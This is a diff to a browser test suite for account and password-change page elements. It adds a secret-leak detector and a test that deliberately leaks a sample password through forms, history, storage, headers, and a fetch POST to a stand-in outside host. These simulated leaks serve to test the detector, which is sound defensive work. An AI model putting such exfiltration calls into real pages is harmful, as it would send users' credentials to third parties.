@@ -12,13 +12,17 @@ import {build} from 'esbuild';
 import {type Browser, chromium, type Page} from 'playwright-core';
 
 import {type Host, page} from './host.js';
+import {watchSecrets} from './secrets-guard.js';
 
 const root = fileURLToPath(new URL('../..', import.meta.url));
 const pages = fileURLToPath(new URL('pages', import.meta.url));
 const load = async <T>(path: string) => (await import(pathToFileURL(path).href)) as T;
 const hosts = await Promise.all(
-  readdirSync(pages).map(async (file) => (await load<{host: Host}>(join(pages, file))).host),
-);
+  readdirSync(pages).map(async (file) => {
+    const {host, variants = []} = await load<{host?: Host; variants?: readonly Host[]}>(join(pages, file));
+    return host ? [host] : variants;
+  }),
+).then((found) => found.flat());
 
 const typed = ['Kanarienvogel-7f3a', 'Nachtigall-91c2', 'Nachtigall-91c2'];
 
@@ -46,10 +50,11 @@ describe('pages as they are', {timeout: 600_000}, () => {
   before(async () => {
     process.chdir(root);
     folder = await mkdtemp(join(tmpdir(), 'account-elements-hosts-'));
-    const {buildCdn} = await load<{buildCdn(folder: string): Promise<unknown>}>(
+    const {buildCdn} = await load<{buildCdn(folder: string, version?: string): Promise<unknown>}>(
       join(root, 'scripts/support/cdn.mjs'),
     );
-    await buildCdn(folder);
+    await buildCdn(join(folder, 'cdn'));
+    await buildCdn(join(folder, 'second'), '0.0.9');
     const {chromiumOptions} = await load<{chromiumOptions(): Promise<object>}>(
       join(root, 'test/support/browsers.js'),
     );
@@ -85,7 +90,7 @@ describe('pages as they are', {timeout: 600_000}, () => {
       const server = createServer(({url = ''}, response) => {
         const file = url.startsWith('/lib/')
           ? join(root, 'node_modules/bootstrap/dist/js/bootstrap.bundle.js')
-          : join(folder, url.replace('/cdn/', ''));
+          : join(folder, url);
         const isPage = url === '/page';
         const found = isPage ? markup : existsSync(file) ? readFileSync(file) : undefined;
         response.writeHead(found === undefined ? 404 : 200, {
@@ -116,6 +121,43 @@ describe('pages as they are', {timeout: 600_000}, () => {
     });
   }
 
+  it('a secret that gets out is seen, wherever', async () => {
+    const context = await browser!.newContext();
+    const [secret = ''] = typed;
+    const seen = await watchSecrets(context, [secret]);
+    const opened = await context.newPage();
+    await context.route('**/*', (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: page('', `<form><input name="password" value="${secret}"></form>`),
+      }),
+    );
+    const leaks: readonly (readonly [string, (text: string) => unknown])[] = [
+      ['a request', () => document.forms[0]?.submit()],
+      ['the history', (text) => history.pushState({text}, '')],
+      ['the history', (text) => history.replaceState(null, '', `?q=${encodeURIComponent(text)}`)],
+      ['storage', (text) => sessionStorage.setItem('draft', text)],
+      [
+        'a body',
+        (text) => fetch('https://elsewhere.example/log', {method: 'POST', body: text, mode: 'no-cors'}),
+      ],
+      ['a header', (text) => fetch('/log', {headers: {'X-Log': text}})],
+    ];
+    for (const [where, leak] of leaks) {
+      await opened.goto('http://guarded.example/');
+      seen.length = 0;
+      await opened.evaluate(leak, secret);
+      await opened.waitForLoadState();
+      for (let round = 0; round < 100 && seen.length === 0; round++)
+        await new Promise((go) => setTimeout(go, 20));
+      assert.ok(
+        seen.some((each) => each.startsWith(where)),
+        `${where}: ${seen.join()}`,
+      );
+    }
+    await context.close();
+  });
+
   for (const host of hosts) {
     it(`${host.name}: the account is seen and changed, and what is typed goes nowhere`, async () => {
       const app = host.app && (await bundled(host.app));
@@ -127,14 +169,13 @@ describe('pages as they are', {timeout: 600_000}, () => {
       const server: Server = createServer((request, response) => {
         const {pathname} = new URL(request.url ?? '/', 'http://localhost');
         asked.push(`${request.method} ${request.url} ${request.headers.referer ?? ''}`);
-        request.on('data', (chunk: Buffer) => asked.push(chunk.toString()));
         const [, place = '', ...rest] = pathname.split('/');
         const markup =
           host.pages[pathname] ?? (host.scope && pathname.startsWith(host.scope) && host.pages[start]);
         const library_ = place === 'lib' && host.libraries?.[rest.join('/')];
         const file =
           place === 'cdn' || place === 'second'
-            ? join(folder, ...rest)
+            ? join(folder, place, ...rest)
             : library_
               ? join(root, 'node_modules', library_)
               : '';
@@ -149,32 +190,22 @@ describe('pages as they are', {timeout: 600_000}, () => {
       await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
       const origin = `http://localhost:${(server.address() as AddressInfo).port}`;
       const context = await browser!.newContext({locale: 'en-US'});
+      const seen = await watchSecrets(context, typed);
       const opened = await context.newPage();
       const faults: string[] = [];
-      const addresses: string[] = [];
       opened.on('pageerror', (error) => faults.push(error.message));
       opened.on('console', (message) => {
         if (message.type() === 'error' && !message.location().url.endsWith('favicon.ico'))
           faults.push(message.text());
       });
       opened.on('dialog', (dialog) => void dialog.accept());
-      opened.on('framenavigated', (frame) => addresses.push(frame.url()));
       try {
         await opened.goto(origin + start);
         await journey(opened, host);
-        const seen = [
-          ...addresses,
-          ...asked,
-          opened.url(),
-          await opened.evaluate(() => JSON.stringify(history.state)),
-        ];
-        for (const secret of typed)
-          assert.deepEqual(
-            seen.filter((each) => each.includes(secret)),
-            [],
-          );
+        assert.deepEqual(seen, []);
         assert.deepEqual(faults, []);
         assert.ok(
+          // Not even the user ID, which is in the form for password managers.
           !asked.some((each) => /^(GET|POST) \S*\?(.*&)?(username|currentPassword|q)=/.test(each)),
           asked.join('\n'),
         );
@@ -234,7 +265,11 @@ async function journey(opened: Page, host: Host) {
   assert.equal(await form.locator('input[type=password]').count(), 3);
   assert.equal(await form.getByRole('button', {name: 'Submit'}).count(), 1);
 
-  // The form is alive: what is missing is said.
+  // The form is alive: what is wrong with what was typed is said, and then what is missing.
+  for (const [index, name] of ['currentPassword', 'newPassword', 'confirmPassword'].entries())
+    await form.locator(`input[name=${name}]`).fill(typed[index] ?? '');
+  await form.locator('input[name=confirmPassword]').press('Enter');
+  await form.locator('[aria-invalid=true]').first().waitFor();
   for (const name of ['currentPassword', 'newPassword', 'confirmPassword'])
     await form.locator(`input[name=${name}]`).fill('');
   await form.getByRole('button', {name: 'Submit'}).click();
